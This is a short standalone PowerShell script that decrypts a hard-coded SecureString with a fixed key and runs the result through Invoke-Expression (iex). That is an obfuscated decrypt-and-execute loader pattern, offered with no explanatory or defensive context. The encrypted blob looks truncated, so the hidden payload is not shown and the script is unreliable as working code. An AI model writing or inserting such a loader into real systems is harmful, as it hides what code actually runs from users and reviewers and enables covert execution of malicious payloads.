$k = 1..16
$enc = '76492d1116743f0423413b16050a5345MgB8AA=='
$s = ConvertTo-SecureString $enc -Key $k
$p = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s))
iex $p
